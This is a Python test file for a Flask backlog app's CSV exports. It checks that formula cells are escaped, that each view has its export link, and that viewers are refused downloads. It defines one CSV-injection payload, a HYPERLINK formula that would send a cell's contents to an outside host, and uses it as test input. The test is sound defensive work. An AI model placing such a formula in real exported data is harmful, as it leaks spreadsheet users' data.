"""The views by formula taken out as files: cells that run nothing, for those who may take files out."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

from flask.testing import FlaskClient

from feedback.backlog.actions import improvements as actions
from feedback.backlog.actions import own_formulas
from feedback.permissions import Role
from tests.factories.backlog import listed, said_and_proposed
from tests.factories.people import Member, member

SignedIn = Callable[..., FlaskClient]
VIEWS = "/o/acme/backlog/views"
KINDS = ("rice", "ice", "wsjf", "effort", "opportunity", "kano")
ATTACK = '=HYPERLINK("http://e?"&A1)'


def test_each_page_has_its_file_and_no_cell_runs(acme: Member, as_member: SignedIn) -> None:
    said_and_proposed(acme)
    first = listed(acme).lines[0].improvement.id
    acme.do(lambda: actions.change_improvement(first, title={"es": ATTACK, "en": ATTACK}))
    own = acme.do(lambda: own_formulas.write_formula(name="Own", text="people", higher_first=True).id)
    browser = as_member(acme)
    for kind in (*KINDS, f"own/{own}"):
        page = browser.get(f"{VIEWS}/{kind}" if kind != "rice" else VIEWS).get_data(as_text=True)
        assert (f'href="{VIEWS}/{kind}.csv"' in page) == (kind not in ("opportunity", "kano")), kind
        answer = browser.get(f"{VIEWS}/{kind}.csv")
        assert (answer.status_code, answer.mimetype) == (200, "text/csv"), kind
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["Content-Disposition"].startswith("attachment;")
        cells = [cell for row in csv.reader(io.StringIO(answer.get_data(as_text=True))) for cell in row]
        assert not [cell for cell in cells if cell[:1] in "=+@"[: len(cell)] and cell], kind
        assert (f"'{ATTACK}" in cells) == (kind not in ("opportunity", "kano")), kind


def test_a_viewer_reads_the_pages_and_takes_no_file(acme: Member, as_member: SignedIn) -> None:
    said_and_proposed(acme)
    browser = as_member(member(acme.app, "acme", Role.VIEWER))
    assert "Reduce waiting: Visit" in browser.get(f"{VIEWS}/ice?lang=en").get_data(as_text=True)
    assert ".csv" not in browser.get(f"{VIEWS}/ice").get_data(as_text=True)
    assert {browser.get(f"{VIEWS}/{kind}.csv").status_code for kind in KINDS} == {403}
